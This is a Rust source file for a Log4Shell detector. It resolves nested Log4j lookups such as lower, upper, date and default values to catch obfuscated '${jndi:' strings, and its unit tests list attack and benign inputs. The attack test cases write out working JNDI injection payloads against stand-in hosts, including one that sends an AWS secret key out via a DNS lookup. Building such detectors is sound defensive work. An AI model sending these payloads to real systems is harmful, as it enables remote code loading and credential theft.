//! JNDI lookups (Log4Shell), including nested obfuscation.
//!
//! # Grammar
//!
//! Log4j 2 resolves `${prefix:name}` lookups inside out before it reads the result,
//! so the detector does the same on a copy of the value:
//!
//! ```text
//! lookup := "${" body "}"                  body may hold lookups of its own
//! ${lower:X} -> x        ${upper:X} -> X        ${date:'j'} -> j
//! ${any:name:-X} -> X    (a default: ${::-j}, ${env:NOPE:-j})
//! ```
//!
//! Case mapping is Java's, on characters rather than bytes (`${upper:ı}` is `I`).
//! A `${::-X}` (a default without prefix or name) nested in another lookup is an
//! attack by itself: it only serves to spell a word in pieces.
//!
//! The value is an attack when the resolved text holds `${jndi:` (any protocol:
//! `ldap`, `ldaps`, `rmi`, `dns`, `iiop`, `corba`, `nds`, `nis`, `http`), however the
//! word `jndi` was spelled (`${${lower:j}ndi:`, `${${::-j}${::-n}${::-d}${::-i}:`).
//!
//! Linear: one pass with a stack of open lookups, at most 32 deep (deeper ones are
//! an attack by themselves: nobody nests lookups that far).

use crate::text::starts_with_ci;
use crate::{Class, Finding};

/// The deepest nesting resolved.
const MAX_DEPTH: usize = 32;

/// A necessary condition for [`scan`], cheap to check: without it `scan` finds
/// nothing (it checks it first), so a value that fails it need not be scanned.
pub(crate) fn may_match(input: &[u8]) -> bool {
    memchr::memmem::find(input, b"${").is_some()
}

/// Scans `input` for a JNDI lookup.
pub fn scan(input: &[u8]) -> Option<Finding> {
    if !may_match(input) {
        return None;
    }
    let first = memchr::memmem::find(input, b"${")?;
    let whole = first..input.len();
    // The stack of lookups being read: each holds its resolved body so far.
    let mut stack: Vec<Vec<u8>> = vec![Vec::new()];
    let mut i = first;
    while i < input.len() {
        if input[i] == b'$' && input.get(i + 1) == Some(&b'{') {
            if stack.len() > MAX_DEPTH {
                return Some(Finding::new(
                    Class::Jndi,
                    "lookups nested beyond any use",
                    whole,
                ));
            }
            // `${::-x}` (no prefix, no name, only a default) inside another lookup
            // is how Log4j payloads spell a word piece by piece; nothing else
            // writes it (a shell's `${VAR:-x}` needs a name).
            if stack.len() > 1 && input[i + 2..].starts_with(b"::-") {
                return Some(Finding::new(
                    Class::Jndi,
                    "lookup that only spells out its default",
                    whole,
                ));
            }
            stack.push(Vec::new());
            i += 2;
            continue;
        }
        if input[i] == b'}' && stack.len() > 1 {
            let body = stack.pop().unwrap_or_default();
            if starts_with_ci(&body, 0, b"jndi:") {
                return Some(Finding::new(Class::Jndi, "JNDI lookup", whole));
            }
            let resolved = resolve(&body);
            let parent = stack.last_mut().expect("the outermost level stays");
            parent.extend_from_slice(&resolved);
            i += 1;
            continue;
        }
        stack.last_mut().expect("a level").push(input[i]);
        i += 1;
    }
    // Unclosed lookups: what was resolved inside them still counts.
    stack
        .iter()
        .any(|level| starts_with_ci(level, 0, b"jndi:"))
        .then(|| Finding::new(Class::Jndi, "JNDI lookup", whole))
}

/// What Log4j makes of a lookup body: the default of `prefix:name:-default`, the
/// argument of `lower:`/`upper:`, a quoted `date:` pattern; anything else stays a
/// lookup (as text).
fn resolve(body: &[u8]) -> Vec<u8> {
    if let Some(p) = memchr::memmem::find(body, b":-") {
        return body[p + 2..].to_vec();
    }
    // Java's case mapping, as Log4j applies it: `ı` upper-cases to `I`, `ſ` to `S`,
    // the Kelvin sign lower-cases to `k`.
    if starts_with_ci(body, 0, b"lower:") {
        return String::from_utf8_lossy(&body[6..])
            .to_lowercase()
            .into_bytes();
    }
    if starts_with_ci(body, 0, b"upper:") {
        return String::from_utf8_lossy(&body[6..])
            .to_uppercase()
            .into_bytes();
    }
    if starts_with_ci(body, 0, b"date:") {
        return body[5..].iter().copied().filter(|&c| c != b'\'').collect();
    }
    let mut out = b"${".to_vec();
    out.extend_from_slice(body);
    out.push(b'}');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> bool {
        scan(s.as_bytes()).is_some()
    }

    #[test]
    fn attacks() {
        for s in [
            "${jndi:ldap://evil.example/a}",
            "${JNDI:rmi://evil.example/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
            "${${lower:jn}${lower:di}:dns://x}",
            "${${upper:j}ndi:ldap://x}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
            "User-Agent: ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.example}",
            "${jndi:ldap://x",
            "${jnd${upper:\u{131}}:ldap://x/a}",
            "${${lower:\u{212a}}}${jndi:x}",
            "${${::-${::-$${::-j}}}}",
        ] {
            assert!(hit(s), "missed: {s}");
        }
    }

    #[test]
    fn benign() {
        for s in [
            "${HOME}/bin",
            "total ${price}",
            "const s = `${a}:${b}`;",
            "jndi is a Java API",
            "${env:PATH}",
            "${DB_HOST:-${FALLBACK_HOST:-localhost}}",
        ] {
            assert!(!hit(s), "false positive: {s}");
        }
    }
}
